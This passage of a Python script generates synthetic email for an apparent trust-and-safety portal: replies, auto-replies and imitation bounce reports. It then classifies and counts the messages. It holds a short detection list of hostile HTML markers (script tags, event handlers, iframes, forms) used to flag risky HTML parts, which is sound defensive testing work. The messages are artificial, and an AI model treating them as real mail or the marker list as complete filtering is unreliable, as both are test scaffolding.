        if s.lang == "en" and rng.random() < 0.3:
            text = text.replace("'", "\u2019")
        charset = _pick(rng, CHARSETS[s.lang])
        if not text.isascii() and charset.lower() in ("us-ascii", "iso-8859-1"):
            charset = "UTF-8" if charset.lower() == "us-ascii" else "windows-1252"
        if text.isascii() and charset.lower() == "utf-8" and rng.random() < 0.3:
            charset = "us-ascii"
        try:
            text.encode(charset)
        except UnicodeEncodeError:
            charset = "UTF-8"
        entity, _ = self.body(s, text, charset)
        msgid = None if rng.random() < NO_MESSAGE_ID_SHARE else self.message_id(s, when)
        addr = self.address(s)
        top = self.common_top(s, addr, mailbox, subject, when, msgid, [])
        if msgid is not None:
            self.threads.append(
                _Thread(
                    present=[msgid],
                    references=[msgid],
                    subject=subject,
                    sender=index,
                    mailbox=mailbox,
                    lang=s.lang,
                    case=None,
                    quote=text[:1500],
                    quote_from=f"{s.name or s.local} <{addr}>",
                    quote_date=when,
                )
            )
        return self.assemble(top, entity)

    def choose_thread(self) -> _Thread:
        n = len(self.threads)
        return self.threads[n - 1 - int(n * self.rng.random() ** 1.5)]

    def quote_block(
        self, s: _Sender, t: _Thread, parent_text: str, parent_from: str, parent_date: datetime
    ) -> str:
        rng = self.rng
        quoted = "\n".join(
            f"> {line}" if line else ">" for line in parent_text.rstrip("\n").split("\n")
        )
        if s.client == "outlook":
            return (
                "\n________________________________\n"
                f"From: {parent_from}\nSent: {parent_date:%A, %B %d, %Y %I:%M %p}\n"
                f"To: {t.mailbox}\nSubject: {t.subject}\n\n{parent_text}"
            )
        stamp = format_datetime(parent_date.astimezone(s.tz))
        if rng.random() < 0.5:
            return f"\nOn {stamp}, {parent_from} wrote:\n{quoted}\n"
        return f"\n{parent_from} writes:\n{quoted}\n"

    def reply(self) -> bytes:
        rng = self.rng
        t = self.choose_thread()
        s = self.sender(t.sender)
        if rng.random() < 0.1:  # somebody else on the thread (a friend, a lawyer)
            t_sender = self.pick_sender()
            s = self.sender(t_sender)
        when = self.tick()
        absent = rng.random() < ABSENT_PARENT_SHARE * 1.02
        if absent:
            # Replying to the portal's acknowledgement or a staff reply: the parent was sent
            # by the portal and never reached this mailbox, but References still carries the
            # original request.
            kind = "ack" if t.case is None else rng.choice(("ack", "reply", "reply"))
            if t.case is None:
                t.case = self.new_case()
            parent = self.portal_id(kind)
            t.references.append(parent)
            if kind == "ack":
                parent_text = ACK_TEXT.format(case=t.case)
            else:
                parent_text = STAFF_TEXT.format(agent=rng.choice(AGENTS))
            parent_from = f"Trust and Safety <{t.mailbox}>"
            parent_date = t.quote_date + (when - t.quote_date) * rng.uniform(0.05, 0.95)
            base = (
                ACK_SUBJECT.format(case=t.case, subject=t.subject)
                if rng.random() < 0.85
                else t.subject
            )
        else:
            parent = t.references[-1] if t.references[-1] in t.present else t.present[-1]
            parent_text, parent_from, parent_date = t.quote, t.quote_from, t.quote_date
            base = (
                ACK_SUBJECT.format(case=t.case, subject=t.subject)
                if t.case and rng.random() < 0.3
                else t.subject
            )
        prefix = (
            PREFIX_RE.get(s.lang, "Re:")
            if rng.random() < 0.8
            else rng.choice(("Re:", "RE:", "Re: Re:"))
        )
        subject = f"{prefix} {base}"
        wiki = rng.choice(WIKIS)
        fills = self.fills(s, wiki)
        own = self.prose(s, t.subject, fills, replying=True)
        text = own + self.quote_block(s, t, parent_text, parent_from, parent_date)
        charset = _pick(rng, CHARSETS[s.lang])
        try:
            text.encode(charset)
        except UnicodeEncodeError:
            charset = "UTF-8"
        entity, _ = self.body(s, text, charset)
        msgid = None if rng.random() < NO_MESSAGE_ID_SHARE else self.message_id(s, when)
        cut = t.references.index(parent) + 1 if parent in t.references else len(t.references)
        chain = t.references[:cut]
        refs = chain if len(chain) <= 12 else [chain[0], *chain[-11:]]
        if refs[-1] != parent:
            refs = [*refs, parent]
        extra = []
        if absent or rng.random() < 0.95:
            extra.append("References: " + "\r\n ".join(refs))
        extra.append(f"In-Reply-To: {parent}")
        addr = self.address(s)
        top = self.common_top(s, addr, t.mailbox, subject, when, msgid, extra)
        if msgid is not None:
            t.present.append(msgid)
            t.references.append(msgid)
            t.quote = own[:1500]
            t.quote_from = f"{s.name or s.local} <{addr}>"
            t.quote_date = when
            if len(t.references) > 40:
                del t.references[:-20]
                del t.present[:-20]
        return self.assemble(top, entity)

    def auto_reply(self) -> bytes:
        rng = self.rng
        when = self.tick()
        if self.threads and rng.random() < 0.9:
            t = self.choose_thread()
            s = self.sender(t.sender) if rng.random() < 0.7 else self.sender(self.pick_sender())
            kind = "ack" if t.case is None else rng.choice(("ack", "reply"))
            if t.case is None:
                t.case = self.new_case()
            case, mailbox, original = t.case, t.mailbox, t.subject
        else:
            s = self.sender(self.pick_sender())
            kind, case, mailbox, original = "ack", self.new_case(), MAILBOXES[0], GENERIC_SUBJECT
        parent = self.portal_id(kind)
        lang = s.lang if s.lang in AUTO_SUBJECT_PREFIX and rng.random() < 0.6 else "en"
        subject = rng.choice(AUTO_SUBJECT_PREFIX[lang]) + ACK_SUBJECT.format(
            case=case, subject=original
        )
        back = (when + timedelta(days=rng.randrange(2, 21))).strftime("%d.%m.%Y")
        text = AUTO_REPLY_TEXT[lang].format(date=back)
        if lang == "en":
            name = s.name if s.name.isascii() else s.local
            text += f"\nBest regards,\n{name}\n"
        charset = "UTF-8" if not text.isascii() else "us-ascii"
        style = rng.choice(("gmail", "outlook", "legacy", "precedence", "autorespond", "list"))
        if s.client in ("gmail", "outlook") and rng.random() < 0.8:
            style = s.client
        flags: list[str] = []
        if style == "gmail":
            flags = ["Auto-Submitted: auto-replied", "Precedence: bulk"]
        elif style == "outlook":
            flags = ["Auto-Submitted: auto-generated", "X-Auto-Response-Suppress: All"]
            flags.append("X-MS-Exchange-Inbox-Rules-Loop: " + f"{s.local}@{s.domain}")
        elif style == "legacy":
            flags = ["X-Autoreply: yes", "Precedence: bulk"]
        elif style == "precedence":
            flags = ["Precedence: auto_reply", "X-Autoreply: yes"]
        elif style == "autorespond":
            flags = ["X-Autorespond: yes", "Auto-Submitted: auto-replied (vacation)"]
        else:
            lst = rng.choice(("wikimedia-l", "wikiar-l", "wikipedia-he", "checkuser-l"))
            flags = [
                "Precedence: list",
                f"List-Id: {lst}.lists.example.net",
                f"List-Unsubscribe: <mailto:{lst}-leave@lists.example.net>",
                "Auto-Submitted: auto-replied",
            ]
        cte = "7bit" if text.isascii() else rng.choice(("quoted-printable", "base64", "8bit"))
        entity = self.text_leaf(text, "plain", charset, cte, False)
        msgid = None if rng.random() < NO_MESSAGE_ID_SHARE * 2 else self.message_id(s, when)
        addr = self.address(s)
        extra = [f"In-Reply-To: {parent}", f"References: {parent}", *flags]
        top = self.common_top(s, addr, mailbox, subject, when, msgid, extra)
        if rng.random() < 0.3:
            top[0] = "Return-Path: <>"
        return self.assemble(top, entity)

    def bounce(self) -> bytes:
        rng = self.rng
        when = self.tick()
        if self.threads:
            t = self.choose_thread()
            s = self.sender(t.sender)
            if t.case is None:
                t.case = self.new_case()
            case, mailbox, original = t.case, t.mailbox, t.subject
        else:
            s = self.sender(self.pick_sender())
            case, mailbox, original = self.new_case(), MAILBOXES[0], GENERIC_SUBJECT
        sent_subject = ACK_SUBJECT.format(case=case, subject=original)
        rcpt = f"{s.local}@{s.domain.lower()}"
        if rng.random() < 0.3:  # a typo in the address the requester gave
            rcpt = (
                rcpt.replace("gmail", "gmial")
                .replace("yahoo", "yaho")
                .replace("hotmail", "hotmial")
            )
        original_id = self.portal_id("ack")
        mta = rng.choice(BOUNCE_MTAS)
        status, diag, action = rng.choice(
            (
                (
                    "5.1.1",
                    "550 5.1.1 The email account that you tried to reach does not exist.",
                    "failed",
                ),
                ("5.1.1", "550 5.1.1 <{rcpt}>: Recipient address rejected: User unknown", "failed"),
                ("5.2.2", "552 5.2.2 The recipient's inbox is out of storage space.", "failed"),
                ("5.7.1", "550 5.7.1 Message rejected as spam by Content Filtering.", "failed"),
                ("4.4.1", "421 4.4.1 Connection timed out", "delayed"),
                ("5.4.4", "550 5.4.4 Host or domain name not found", "failed"),
            )
        )
        diag = diag.format(rcpt=rcpt)
        delay = rng.randrange(4 * 3600, 2 * 86400) if action == "delayed" else rng.randrange(2, 900)
        sent = when - timedelta(seconds=delay)
        domain = rcpt.split("@")[1]
        # Our own relay bounces what it cannot deliver; remote MTAs bounce the rest.
        reporter = {
            "postfix": rng.choice(MX_HOSTS),
            "gmail": "mx.google.com",
            "exim": f"mx{rng.randrange(1, 4)}.{domain}",
            "exchange": f"{rng.randbytes(4).hex().upper()}.mail.protection.outlook.com",
        }[mta]
        daemon = {
            "postfix": ("Mail Delivery System", f"MAILER-DAEMON@{reporter}"),
            "gmail": ("Mail Delivery Subsystem", "mailer-daemon@googlemail.com"),
            "exim": ("Mail Delivery System", f"Mailer-Daemon@{reporter}"),
            "exchange": ("Microsoft Outlook", f"postmaster@{domain}"),
        }[mta]
        subject = {
            "postfix": "Undelivered Mail Returned to Sender",
            "gmail": "Delivery Status Notification (Failure)",
            "exim": "Mail delivery failed: returning message to sender",
            "exchange": "Undeliverable: " + sent_subject,
        }[mta]
        if action == "delayed":
            subject = {
                "postfix": "Delayed Mail (still being retried)",
                "exim": "Warning: message delayed",
            }.get(mta, "Delivery Status Notification (Delay)")
        human = {
            "postfix": (
                f"This is the mail system at host {reporter}.\n\n"
                "I'm sorry to have to inform you that your message could not\n"
                "be delivered to one or more recipients. It's attached below.\n\n"
                "For further assistance, please send mail to postmaster.\n\n"
                "If you do so, please include this problem report. You can\n"
                "delete your own text from the attached returned message.\n\n"
                f"                   The mail system\n\n<{rcpt}>: host mx.{domain} said:\n"
                f"    {diag} (in reply to RCPT TO command)\n"
            ),
            "gmail": (
                f"** Address not found **\n\nYour message wasn't delivered to {rcpt} because "
                "the address couldn't be found, or is unable to receive mail.\n\n"
                "Learn more here: https://support.google.com/mail/?p=NoSuchUser\n\n"
                f"The response from the remote server was:\n{diag}\n"
            ),
            "exim": (
                "This message was created automatically by mail delivery software.\n\n"
                "A message that you sent could not be delivered to one or more of its\n"
                "recipients. This is a permanent error. The following address(es) failed:\n\n"
                f"  {rcpt}\n    SMTP error from remote mail server after RCPT TO:<{rcpt}>:\n"
                f"    {diag}\n"
            ),
            "exchange": (
                f"Your message to {rcpt} couldn't be delivered.\n\n"
                f"{rcpt.split('@')[0]} wasn't found at {domain}.\n\n"
                "Action Required: Recipient\n\nUnknown To address\n\n"
                "How to Fix It\nThe address may be misspelled or may not exist.\n"
            ),
        }[mta]
        utc_sent = format_datetime(sent.astimezone(UTC))
        dsn = (
            f"Reporting-MTA: dns; {reporter}\n"
            + (
                f"X-Postfix-Queue-ID: 4Z{rng.randbytes(5).hex().upper()}\n"
                f"X-Postfix-Sender: rfc822; {mailbox}\n"
                if mta == "postfix"
                else ""
            )
            + f"Arrival-Date: {utc_sent}\n\n"
            f"Final-Recipient: rfc822; {rcpt}\n"
            f"Original-Recipient: rfc822;{rcpt}\n"
            f"Action: {action}\n"
            f"Status: {status}\n"
            f"Remote-MTA: dns; mx.{domain}\n"
            f"Diagnostic-Code: smtp; {diag}\n"
        )
        original_headers = (
            f"Return-Path: <{mailbox}>\n"
            f"Received: from {PORTAL_DOMAIN} (portal [192.0.2.10])\n\tby smtp.example.org (Postfix) with ESMTPS id 4Z{rng.randbytes(5).hex().upper()}\n"
            f"\tfor <{rcpt}>; {utc_sent}\n"
            "MIME-Version: 1.0\n"
            'Content-Type: text/plain; charset="utf-8"\n'
            "Content-Transfer-Encoding: 7bit\n"
            + _fold("Subject", _header_text(sent_subject, "UTF-8", "B")).replace("\r\n", "\n")
            + "\n"
            f"From: Trust and Safety <{mailbox}>\n"
            f"To: {rcpt}\n"
            f"Date: {utc_sent}\n"
            f"Message-ID: {original_id}\n"
            "Auto-Submitted: auto-replied\n"
        )
        parts = [
            _Entity(
                [
                    "Content-Description: Notification",
                    'Content-Type: text/plain; charset="us-ascii"',
                ],
                _crlf(human.encode()),
            ),
            _Entity(
                ["Content-Description: Delivery report", "Content-Type: message/delivery-status"],
                _crlf(dsn.encode()),
            ),
        ]
        if rng.random() < 0.7:
            original = original_headers + "\n" + ACK_TEXT.format(case=case)
            parts.append(
                _Entity(
                    ["Content-Description: Undelivered Message", "Content-Type: message/rfc822"],
                    _crlf(original.encode()),
                )
            )
        else:
            parts.append(
                _Entity(
                    [
                        "Content-Description: Undelivered Message Headers",
                        "Content-Type: text/rfc822-headers",
                    ],
                    _crlf(original_headers.encode()),
                )
            )
        entity = self.multipart("report", parts, "generic", "; report-type=delivery-status")
        top = self.trace(None, mailbox, when, "<>")
        top += [
            f"Date: {format_datetime(when.astimezone(UTC))}",
            f"From: {daemon[0]} <{daemon[1]}>",
            _fold("Subject", _header_text(subject, "UTF-8", "B")),
            f"To: {mailbox}",
            "Auto-Submitted: auto-replied",
            f"Message-ID: <{when:%Y%m%d%H%M%S}.{rng.randbytes(5).hex().upper()}@{reporter}>",
            "MIME-Version: 1.0",
        ]
        return self.assemble(top, entity)

    def next(self) -> bytes:
        kind = _pick(self.rng, KIND_WEIGHTS)
        if kind == "reply" and self.threads:
            return self.reply()
        if kind == "auto_reply":
            return self.auto_reply()
        if kind == "bounce":
            return self.bounce()
        return self.new_request()


def generate(count: int = 5000, seed: int = 1) -> Iterator[bytes]:
    """Yield ``count`` raw RFC 5322 messages (CRLF line endings), deterministic for ``seed``."""
    gen = _Generator(seed, count)
    for _ in range(count):
        yield gen.next()


# --------------------------------------------------------------------------------------
# Summary
# --------------------------------------------------------------------------------------


def _decoded(value: str | None) -> str:
    if not value:
        return ""
    parts = []
    for chunk, charset in decode_header(value):
        if isinstance(chunk, bytes):
            try:
                parts.append(chunk.decode(charset or "ascii", errors="replace"))
            except LookupError:
                parts.append(chunk.decode("latin-1"))
        else:
            parts.append(chunk)
    return "".join(parts)


HOSTILE_MARKERS = (
    "<script",
    "javascript:",
    " onclick=",
    " onload=",
    " onerror=",
    "<iframe",
    "<form",
)


def _hostile(raw: bytes) -> bool:
    """Whether any text/html part, once decoded, carries script, handlers or frames."""
    msg = message_from_bytes(raw, policy=compat32)
    for part in msg.walk():
        if part.get_content_type() == "text/html":
            markup = (part.get_payload(decode=True) or b"").decode("latin-1").lower()
            if any(marker in markup for marker in HOSTILE_MARKERS):
                return True
    return False


def summarize(messages: Iterable[bytes]) -> dict:
    """Classify raw messages the way the bridge will, from their bytes, and count categories.

    Kinds are exclusive (bounce, auto_reply, reply, new); the other counts are features and
    overlap. ``reply_absent_parent`` counts replies whose In-Reply-To is not a Message-ID seen
    earlier in ``messages`` while their References include one that was.
    """
    parser = BytesHeaderParser(policy=compat32)
    kinds: Counter[str] = Counter()
    features: Counter[str] = Counter()
    charsets: Counter[str] = Counter()
    sizes: list[int] = []
    seen: set[bytes] = set()
    for raw in messages:
        sizes.append(len(raw))
        head, _, body = raw.partition(b"\r\n\r\n")
        msg = parser.parsebytes(head + b"\r\n\r\n")
        get = msg.get
        ctype = (get("Content-Type") or "").lower()
        auto = (get("Auto-Submitted") or "no").strip().lower()
        precedence = (get("Precedence") or "").strip().lower()
        in_reply_to = MSGID_RE.findall((get("In-Reply-To") or "").encode("ascii", "replace"))
        references = MSGID_RE.findall((get("References") or "").encode("ascii", "replace"))
        if "multipart/report" in ctype and "delivery-status" in ctype:
            kind = "bounce"
        elif (
            auto != "no"
            or get("X-Autoreply")
            or get("X-Autorespond")
            or precedence in ("bulk", "junk", "list", "auto_reply")
        ):
            kind = "auto_reply"
        elif in_reply_to or references:
            kind = "reply"
        else:
            kind = "new"
        kinds[kind] += 1
        lower_body = body.lower()
        html_part = b"content-type: text/html" in lower_body or "text/html" in ctype
        if kind == "new" and not ctype.startswith("multipart/") and not html_part:
            features["new_plain_text"] += 1
        if kind == "reply":
            if in_reply_to and in_reply_to[-1] not in seen:
                if any(r in seen for r in references):
                    features["reply_absent_parent_with_present_reference"] += 1
                else:
                    features["reply_absent_parent_no_present_reference"] += 1
            subject = _decoded(get("Subject"))
            if CASE_RE.search(subject):
                features["reply_case_ref_in_subject"] += 1
        if html_part:
            features["html"] += 1
        if html_part and _hostile(raw):
            features["html_hostile"] += 1
        if b"content-disposition: attachment" in lower_body:
            features["attachment"] += 1
        if b"\r\ncontent-id:" in lower_body:
            features["inline_image_cid"] += 1
        if ctype.startswith("multipart/"):
            features["multipart"] += 1
        msgid = MSGID_RE.findall((get("Message-ID") or "").encode("ascii", "replace"))
        if msgid:
            seen.add(msgid[0])
        else:
            features["no_message_id"] += 1
        auth = get("Authentication-Results")
        if auth:
            features["authentication_results"] += 1
            if re.search(r"\b(spf|dkim|dmarc)=(fail|softfail)", auth):
                features["authentication_results_fail"] += 1
        if b"=?" in head:
            if re.search(rb"=\?[^?]+\?[Bb]\?", head):
                features["rfc2047_b"] += 1
            if re.search(rb"=\?[^?]+\?[Qq]\?", head):
                features["rfc2047_q"] += 1
        if any(b > 0x7F for b in head):
            features["raw_8bit_header"] += 1
        for cte in (b"quoted-printable", b"base64", b"8bit"):
            if b"content-transfer-encoding: " + cte in lower_body or (
                b"content-transfer-encoding: " + cte in head.lower()
            ):
                features[f"cte_{cte.decode()}"] += 1
        for name in {m.lower().decode() for m in CHARSET_RE.findall(raw)}:
            charsets[name] += 1
        for field in ("Date", "From", "To", "Subject", "MIME-Version"):
            if get(field) is None:
                features[f"missing_{field}"] += 1
    total = sum(sizes)
    return {
        "messages": len(sizes),
        "kinds": dict(sorted(kinds.items())),
        "features": dict(sorted(features.items())),
        "charsets": dict(charsets.most_common()),
        "bytes_total": total,
        "bytes_median": int(statistics.median(sizes)) if sizes else 0,
        "bytes_mean": total // len(sizes) if sizes else 0,
        "bytes_max": max(sizes, default=0),
    }


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--count", type=int, default=5000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--out", type=Path, help="write the messages as numbered .eml files here")
    args = parser.parse_args(argv)
    started = time.perf_counter()
    messages = list(generate(args.count, args.seed))
    elapsed = time.perf_counter() - started
    if args.out is not None:
        args.out.mkdir(parents=True, exist_ok=True)
        width = max(5, len(str(args.count)))
        for number, raw in enumerate(messages, start=1):
            (args.out / f"{number:0{width}d}.eml").write_bytes(raw)
    summary = summarize(messages)
    summary["generation_seconds"] = round(elapsed, 3)
    json.dump(summary, sys.stdout, indent=2, ensure_ascii=False)
    sys.stdout.write("\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
